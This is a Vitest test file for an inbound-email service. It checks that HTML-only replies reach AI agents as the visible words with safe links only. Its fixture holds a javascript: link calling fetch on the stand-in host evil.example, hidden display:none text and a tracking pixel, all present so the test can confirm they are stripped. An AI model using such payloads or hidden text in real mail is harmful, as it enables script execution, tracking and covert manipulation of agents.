import { afterEach, describe, expect, it } from 'vitest'
import { createInboundTestApp, type InboundTestApp, plainMail } from '../../support/inbound-app'
import { FIXTURE_ADDRESS } from '../../support/inbound-emails'

// Issue 39, item 11: HTML-only replies reached the agents as mailparser's text, with
// link targets (javascript: included), tracking-pixel URLs and display:none text.

let t: InboundTestApp | undefined
afterEach(async () => {
  await t?.cleanup()
  t = undefined
})

function agentTexts(app: InboundTestApp): string[] {
  return (app.service.messages() as { message: { text?: string } }[]).map(
    (m) => m.message.text ?? '',
  )
}

const HTML = [
  '<html><head><style>.x { color: red }</style><title>Re: your order</title></head><body>',
  '<div style="display:none;max-height:0;overflow:hidden">Preview text nobody saw</div>',
  '<p>Please ship it to <a href="javascript:fetch(\'//evil.example\')">my office</a>,',
  ' details on <a href="https://lopez.example/office">our site</a>.</p>',
  '<img src="https://track.example/open.gif?id=42" width="1" height="1" alt="">',
  '<span hidden>hidden words</span>',
  '</body></html>',
].join('')

describe('an HTML-only reply', () => {
  it('reaches the agents as the words the visitor saw, with safe link targets only', async () => {
    t = await createInboundTestApp()
    const res = await t.postMail(
      plainMail(FIXTURE_ADDRESS, HTML, { 'Content-Type': 'text/html; charset=utf-8' }),
    )
    expect(await res.json()).toEqual({ result: 'ok', messages: 1 })
    expect(agentTexts(t)).toEqual([
      'Please ship it to my office, details on our site [https://lopez.example/office].',
    ])
  })

  it('multipart/alternative: the text part is what the agents get', async () => {
    t = await createInboundTestApp()
    const boundary = 'alt-boundary'
    const body = [
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      '',
      'The plain words.',
      `--${boundary}`,
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>The HTML words.</p>',
      `--${boundary}--`,
      '',
    ].join('\r\n')
    const res = await t.postMail(
      plainMail(FIXTURE_ADDRESS, body, {
        'Content-Type': `multipart/alternative; boundary="${boundary}"`,
      }),
    )
    expect(await res.json()).toEqual({ result: 'ok', messages: 1 })
    expect(agentTexts(t)).toEqual(['The plain words.'])
  })
})
